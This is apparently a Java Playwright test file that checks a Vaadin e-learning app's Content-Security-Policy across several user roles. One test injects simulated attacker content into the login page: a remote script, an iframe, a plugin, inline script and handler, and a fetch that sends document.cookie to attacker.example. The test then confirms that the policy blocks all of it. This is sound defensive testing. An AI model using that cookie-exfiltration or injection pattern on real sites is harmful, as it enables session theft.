package org.encounter;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.TestPropertySource;

/**
 * The main screens of each role, in real Chromium, under the app's Content-Security-Policy and
 * Permissions-Policy: not one of them may be refused anything (no violation event, no console message
 * about a policy), so the policy is shown to work with Vaadin and the Chart.js charts. And what an attacker
 * might inject into a page (an inline script or handler, content from other hosts) is refused.
 */
@TestPropertySource(properties = "encounter.demo.learning=true")
class ContentSecurityPolicyBrowserIT extends BrowserJourney {

    /** What Chromium says in the console when a policy refuses something, or about a policy it cannot read. */
    private static final Pattern ABOUT_A_POLICY = Pattern.compile(
            "(?i)content.security.policy|permissions.policy|feature.policy|refused to|unsafe-eval|unsafe-inline");
    private static final String PLAYER_PAGE = """
            <!doctype html><title>player</title><p id="player">loading</p>
            <script>document.getElementById('player').textContent = 'player ran';</script>""";

    @Autowired
    JdbcTemplate jdbc;

    private final List<String> problems = new CopyOnWriteArrayList<>();
    private String screen = "";

    @Test
    void the_main_screens_of_every_role_run_under_the_policy_without_a_single_refusal() {
        Page anonymous = watchedPage(1280);
        screen("sign-in");
        anonymous.navigate(url("/login"));
        assertThat(anonymous.locator("vaadin-login-form input[name=username]")).isVisible();
        screen("verify, a real certificate");
        String code = jdbc.queryForObject("select code from certificate where revoked_at is null order by id limit 1",
                String.class);
        anonymous.navigate(url("/verify/" + code));
        assertThat(anonymous.locator("#verify-valid, #verify-expired")).isVisible();
        screen("verify, typed code");
        anonymous.locator("#verify-code input").fill("ABCD-EFGH");
        anonymous.locator("#verify-check").click();
        assertThat(anonymous.locator("#verify-unknown")).isVisible();

        Page zoe = signedIn("zoe", 390);
        screen("learner home");
        assertThat(zoe.locator("#home-greeting")).isVisible();
        screen("catalogue");
        zoe.navigate(url("/learn"));
        Locator card = zoe.locator(".catalogue-card", new Page.LocatorOptions().setHasText("When our assumptions"));
        screen("module player");
        card.locator(".catalogue-open").click();
        assertThat(zoe.locator("#player-position")).hasText("Overview · 7 steps");
        zoe.locator("vaadin-radio-group").first().locator("vaadin-radio-button").nth(3).click();
        next(zoe);
        next(zoe);
        assertThat(zoe.locator("#player-position")).hasText("Step 2 of 7");
        screen("module player, video step");
        zoe.getByText("Play the video (YouTube)").click();
        Locator frame = zoe.locator("iframe.step-video");
        assertThat(frame).hasAttribute("sandbox", Pattern.compile(".*allow-scripts.*"));
        assertThat(zoe.frameLocator("iframe.step-video").locator("#player")).hasText("player ran");

        Page noor = signedIn("noor", 390);
        screen("my modules");
        noor.navigate(url("/authoring"));
        assertThat(noor.locator("#new-module-title")).isVisible();
        screen("module editor");
        long draft = jdbc.queryForObject("select id from module where title = 'Waiting rooms'", Long.class);
        noor.navigate(url("/authoring/" + draft));
        assertThat(noor.locator("#module-status")).isVisible();
        noor.locator(".step-editor vaadin-text-area.step-body textarea").first().fill("Typed under the policy.");
        screen("module preview");
        noor.navigate(url("/authoring/" + draft + "/preview"));
        assertThat(noor.locator("#preview-position")).isVisible();
        screen("review queue");
        noor.navigate(url("/review"));
        assertThat(noor.locator("#review-queue")).isVisible();

        Page fiona = signedIn("fiona", 1280);
        screen("team progress");
        fiona.navigate(url("/team"));
        assertThat(fiona.locator("#progress-matrix")).containsText("Zoë Nic Dhòmhnaill");
        screen("team progress charts");
        fiona.locator("vaadin-tab:has-text('Charts')").click();
        assertThat(fiona.locator("#chart-completions encounter-chart")).isVisible();
        BrowserSupport.eventually(() -> (Boolean) fiona.locator("#chart-completions encounter-chart").evaluate("""
                el => { const c = (el.shadowRoot || el).querySelector('canvas');
                        if (!c || c.width === 0) return false;
                        const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
                        for (let i = 3; i < d.length; i += 4) { if (d[i] !== 0) return true; }
                        return false; }"""));

        Page admin = signedIn("admin", 1280);
        screen("people");
        admin.navigate(url("/admin/people"));
        assertThat(admin.locator("#people-grid")).isVisible();
        screen("health, as an admin");
        String health = admin.request().get(url("/actuator/health")).text();
        assertThat(health).as("an admin sees what the health check is made of").contains("\"components\"", "\"db\"");

        for (Page seen : List.of(anonymous, zoe, noor, fiona, admin)) {
            seen.waitForTimeout(500); // let late events reach the test (they arrive only inside a Playwright call)
        }
        assertThat(problems).as("refusals and policy messages on the main screens").isEmpty();
    }

    @Test
    void injected_inline_scripts_and_scripts_frames_plugins_and_requests_to_other_hosts_are_refused() {
        Page page = watchedPage(1280);
        List<String> reachedElsewhere = new CopyOnWriteArrayList<>();
        page.context().route("https://attacker.example/**", route -> {
            reachedElsewhere.add(route.request().url());
            route.fulfill(new Route.FulfillOptions().setStatus(200).setContentType("text/javascript").setBody("1"));
        });
        page.navigate(url("/login"));
        assertThat(page.locator("vaadin-login-form")).isVisible();
        screen("injected");

        page.evaluate("""
                () => {
                  const script = document.createElement('script');
                  script.src = 'https://attacker.example/steal.js';
                  document.head.append(script);
                  const frame = document.createElement('iframe');
                  frame.src = 'https://attacker.example/frame.html';
                  document.body.append(frame);
                  const picture = document.createElement('object');
                  picture.data = 'https://attacker.example/plugin.swf';
                  document.body.append(picture);
                  fetch('https://attacker.example/collect?session=' + document.cookie).catch(() => {});
                  const inline = document.createElement('script');
                  inline.textContent = 'window.injectedScriptRan = true';
                  document.head.append(inline);
                  const handler = document.createElement('img');
                  handler.setAttribute('onerror', 'window.injectedHandlerRan = true');
                  handler.src = '/no-such-picture.png';
                  document.body.append(handler);
                }""");

        // Playwright hands over browser events only while the test is inside a Playwright call: wait in one.
        for (int i = 0; i < 150 && problems.stream().filter(p -> p.startsWith("[injected] violation")).count() < 6; i++) {
            page.waitForTimeout(100);
        }
        assertThat(problems).as("refusals").anySatisfy(p -> assertThat(p).contains("violation script-src"))
                .anySatisfy(p -> assertThat(p).contains("violation frame-src"))
                .anySatisfy(p -> assertThat(p).contains("violation object-src"))
                .anySatisfy(p -> assertThat(p).contains("violation connect-src"))
                .anySatisfy(p -> assertThat(p).contains("violation script-src-elem refused inline"))
                .anySatisfy(p -> assertThat(p).contains("violation script-src-attr refused inline"));
        assertThat(page.evaluate("() => `${window.injectedScriptRan} ${window.injectedHandlerRan}`"))
                .as("whether the injected inline script and handler ran").isEqualTo("undefined undefined");
        assertThat(reachedElsewhere).as("requests that left for another host").isEmpty();
    }

    private void screen(String name) {
        screen = name;
    }

    /** A page in its own context whose policy refusals and policy console messages land in {@link #problems}. */
    private Page watchedPage(int width) {
        BrowserContext context = browser.newContext(new Browser.NewContextOptions().setLocale("en-GB")
                .setViewportSize(width, 900));
        context.route("https://www.youtube-nocookie.com/**", route -> route.fulfill(
                new Route.FulfillOptions().setStatus(200).setContentType("text/html").setBody(PLAYER_PAGE)));
        context.exposeBinding("reportPolicyViolation", (source, args) -> {
            problems.add(shortened("[" + screen + "] violation " + args[0]));
            return null;
        });
        context.addInitScript("""
                document.addEventListener('securitypolicyviolation', e => window.reportPolicyViolation(
                    e.effectiveDirective + ' refused ' + e.blockedURI + ' (' + e.sourceFile + ':' + e.lineNumber + ')'),
                    true);""");
        Page page = context.newPage();
        page.setDefaultTimeout(20_000);
        page.onConsoleMessage(message -> {
            if (ABOUT_A_POLICY.matcher(message.text()).find()) {
                problems.add(shortened("[" + screen + "] console " + message.type() + ": " + message.text()));
            }
        });
        page.onPageError(error -> {
            if (ABOUT_A_POLICY.matcher(error).find()) {
                problems.add(shortened("[" + screen + "] page error: " + error));
            }
        });
        return page;
    }

    /** Data URLs make messages kilobytes long; the start says what was refused. */
    private static String shortened(String problem) {
        return problem.length() > 300 ? problem.substring(0, 300) + "…" : problem;
    }

    private Page signedIn(String who, int width) {
        Page page = watchedPage(width);
        screen("sign-in as " + who);
        BrowserSupport.signIn(page, port, who);
        return page;
    }

    /** Clicks Next and waits until the player shows another step. */
    private static void next(Page page) {
        String before = page.locator("#player-position").textContent();
        page.locator("#player-next").click();
        page.waitForCondition(() -> page.locator("#player-position").count() > 0
                && !before.equals(page.locator("#player-position").textContent()));
    }
}
